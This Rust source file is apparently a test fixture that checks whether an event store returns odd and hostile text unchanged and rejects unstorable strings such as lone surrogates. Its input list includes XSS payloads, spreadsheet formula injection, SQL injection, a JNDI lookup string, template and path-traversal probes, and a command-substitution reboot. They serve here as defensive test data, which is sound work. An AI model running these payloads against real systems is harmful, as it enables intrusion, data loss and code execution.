//! Text: whatever it seems to want, it is text and comes back as it was sent; what no database keeps is named.

use serde_json::Value;

use super::books::FORGED_LINE;
use super::row::{Row, event_of, event_with};
use super::scene::Scene;

pub(super) fn rows(scene: &Scene) -> Vec<Row> {
    let mut rows = Vec::new();
    for (why, text) in kept() {
        // In all places at once: in the three texts of an event, as a key and as a value.
        let json = Value::from(text).to_string();
        let data = format!("{{{json}: {json}, \"nested\": [[{json}]]}}");
        let (json, data) = (Some(json.as_str()), Some(data.as_str()));
        let event = event_with(&[("session_id", json), ("category", json), ("name", json), ("data", data)]);
        rows.push(Row::stored(format!("kept: {why}"), scene.post(), &event));
    }
    rows.extend(written_by_escapes(scene));
    rows.extend(unstorable(scene));
    rows
}

fn kept() -> Vec<(&'static str, &'static str)> {
    vec![
        ("right to left", "\u{202e}txt.exe"),
        ("isolates", "\u{2066}a\u{2069}"),
        ("a noncharacter", "x\u{ffff}"),
        ("the last character", "\u{10ffff}"),
        ("a private character", "\u{e000}"),
        ("a replacement character", "\u{fffd}"),
        ("a byte order mark", "\u{feff}x"),
        ("no width", "a\u{200b}b"),
        ("emoji", "😀👩‍👩‍👧‍👦🏳️‍🌈"),
        ("a combining mark, not composed", "e\u{301}"),
        ("a composed one", "\u{e9}"),
        ("many combining marks", "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}"),
        ("a ligature, which upper case would make longer", "ﬁß"),
        ("blanks around", " spaces stay\t"),
        ("blanks of all kinds around", "\u{a0}\u{3000}x\u{2028}"),
        ("control characters", "\u{1}\u{8}\u{b}\u{1b}[31m\u{7f}\u{85}"),
        ("line breaks", "a\r\nb\nc"),
        ("a script", "<script>alert(1)</script>"),
        ("an image", "\"><img src=x onerror=alert(1)>"),
        ("a script in an address", "javascript:alert(1)"),
        ("a formula", "=cmd|' /C calc'!A0"),
        ("another formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("a fake log line", "x\n{\"level\":\"ERROR\",\"message\":\"forged by a sender\"}\n"),
        ("a fake log line alone", FORGED_LINE),
        ("SQL", "'; DROP TABLE events; --"),
        ("more SQL", "' OR '1'='1"),
        ("COPY's end", "\\."),
        ("COPY's null", "\\N"),
        ("an array of Postgres", "{a,NULL,\"b\"}"),
        ("formats", "%s%n%d{}{0}"),
        ("a look-up", "${jndi:ldap://eye.invalid/a}"),
        ("a template", "{{7*7}}${7*7}#{7*7}"),
        ("a path", "../../etc/passwd"),
        ("a command", "$(reboot)`reboot`; reboot"),
        ("an entity", "&lt;&#0;"),
        ("backslashes", "C:\\new\\u0000"),
        ("a pointer", "~0~1/~/"),
        ("words of JSON", "null"),
        ("a prototype", "__proto__"),
    ]
}

fn written_by_escapes(scene: &Scene) -> Vec<Row> {
    [
        ("a pair of surrogates", r#""\ud83d\ude00""#),
        ("a noncharacter", r#""\uffff""#),
        ("all short escapes", r#""\"\\\/\b\f\n\r\t""#),
        ("control characters", r#""\u0001\u001f\u007f""#),
        ("letters", r#""\u0041\u00e9""#),
    ]
    .into_iter()
    .map(|(why, text)| {
        let event = event_with(&[("name", Some(text)), ("data", Some(&format!("{{{text}: {text}}}")))]);
        Row::stored(format!("by escapes: {why}"), scene.post(), &event)
    })
    .collect()
}

fn unstorable(scene: &Scene) -> Vec<Row> {
    let mut rows = Vec::new();
    for (why, text, shown) in [
        ("NUL", r"a\u0000b", r"a\u0000b"),
        ("a lone high surrogate", r"\ud800", r"\uD800"),
        ("a lone low surrogate", r"\udfff", r"\uDFFF"),
        ("reversed surrogates", r"\ude00\ud83d", r"\uDE00\uD83D"),
        ("a high surrogate and a letter", r"\ud83dx", r"\uD83Dx"),
    ] {
        let broken = |path: &str| [(path.to_owned(), "unstorable_text")];
        let row = |place: &str, event: String, broken: [(String, &str); 1]| {
            let broken = broken.each_ref().map(|(path, code)| (path.as_str(), *code));
            Row::rejected(format!("{why} in {place}"), scene.post(), &event, &broken)
        };
        let quoted = format!("\"{text}\"");
        for field in ["session_id", "category", "name"] {
            rows.push(row(field, event_with(&[(field, Some(&quoted))]), broken(&format!("/{field}"))));
        }
        rows.push(row("a value", event_of(&format!("{{\"a\": {quoted}}}")), broken("/data/a")));
        rows.push(row("an element", event_of(&format!("{{\"a\": [1, {quoted}]}}")), broken("/data/a/1")));
        rows.push(row("a key", event_of(&format!("{{{quoted}: 1}}")), broken(&format!("/data/{shown}"))));
        let field = event_with(&[(text, Some("1"))]);
        rows.push(row("the name of a field", field, broken(&format!("/{shown}"))));
    }
    rows
}
